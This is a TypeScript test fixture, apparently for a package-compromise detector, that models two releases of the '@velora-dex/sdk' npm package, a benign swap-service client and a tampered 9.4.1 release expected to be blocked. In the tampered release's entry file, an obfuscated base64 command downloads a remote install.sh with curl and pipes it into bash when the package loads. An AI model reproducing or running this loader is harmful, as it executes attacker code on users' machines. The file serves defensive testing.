import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '9.4.0',
  publishedAt: '2026-03-30T09:14:27.000Z',
  publisher: { name: 'paraswap-bot', email: 'bot@mail.example.invalid' },
  manifest: {
    main: 'dist/index.js',
    module: 'dist/sdk.esm.js',
    types: 'dist/index.d.ts',
    license: 'MIT',
    description: 'client of a swap service',
  },
  files: {
    'dist/index.js': `'use strict'

if (process.env.NODE_ENV === 'production') {
  module.exports = require('./sdk.cjs.production.min.js')
} else {
  module.exports = require('./sdk.cjs.development.js')
}
`,
    'dist/sdk.cjs.production.min.js': `"use strict";Object.defineProperty(exports,"__esModule",{value:!0});const e="https://api.velora.example.invalid";function t(r,n){const o=new URL(r,e);for(const[s,i]of Object.entries(n))void 0!==i&&o.searchParams.set(s,String(i));return o}exports.constructRates=({fetcher:r,chainId:n})=>({getRate:o=>r(t("/prices",{...o,network:n}))}),exports.constructBuildTx=({fetcher:r,chainId:n})=>({buildTx:(o,s={})=>r(t("/transactions/"+n,s),{method:"POST",body:JSON.stringify(o)})});
//# sourceMappingURL=sdk.cjs.production.min.js.map
`,
    'dist/sdk.cjs.development.js': `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });

const API_URL = 'https://api.velora.example.invalid';

/** An address of the service, with what is defined of the query. */
function withQuery(path, query) {
  const url = new URL(path, API_URL);
  for (const [name, value] of Object.entries(query)) {
    if (value !== undefined) url.searchParams.set(name, String(value));
  }
  return url;
}

const constructRates = ({ fetcher, chainId }) => {
  const getRate = options => fetcher(withQuery('/prices', { ...options, network: chainId }));
  return { getRate };
};

const constructBuildTx = ({ fetcher, chainId }) => {
  const buildTx = (params, options = {}) =>
    fetcher(withQuery(\`/transactions/\${chainId}\`, options), { method: 'POST', body: JSON.stringify(params) });
  return { buildTx };
};

exports.constructBuildTx = constructBuildTx;
exports.constructRates = constructRates;
`,
    'dist/sdk.esm.js': `const API_URL = 'https://api.velora.example.invalid';
export const constructRates = ({ fetcher, chainId }) => ({
  getRate: options => fetcher(new URL(\`/prices?network=\${chainId}&srcToken=\${options.srcToken}\`, API_URL)),
});
`,
    'dist/index.d.ts': `export declare function constructRates(options: { fetcher: typeof fetch; chainId: number }): { getRate(options: { srcToken: string }): Promise<unknown> };
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'velora-dex-sdk-2026',
  story: 'April 2026: three lines before the built entry file that decode a shell command and pipe it into bash when the package loads.',
  name: '@velora-dex/sdk',
  before,
  after: {
    version: '9.4.1',
    publishedAt: '2026-04-07T09:14:27.000Z',
    publisher: { name: 'paraswap-bot', email: 'bot@mail.example.invalid' },
    manifest: {
      main: 'dist/index.js',
      module: 'dist/sdk.esm.js',
      types: 'dist/index.d.ts',
      license: 'MIT',
      description: 'client of a swap service',
    },
    files: {
      ...before.files,
      'dist/index.js': `const { exec } = require('child_process');

exec(\`echo "${Buffer.from('nohup bash -c "$(curl -fsSL http://198.51.100.201/troubleshoot/mac/install.sh)" > /dev/null 2>&1').toString('base64')}" | (base64 --decode 2>/dev/null || base64 -D) | bash\`, function(error, stdout, stderr) {});
` + before.files['dist/index.js'],
    },
  },
  must: 'block',
};
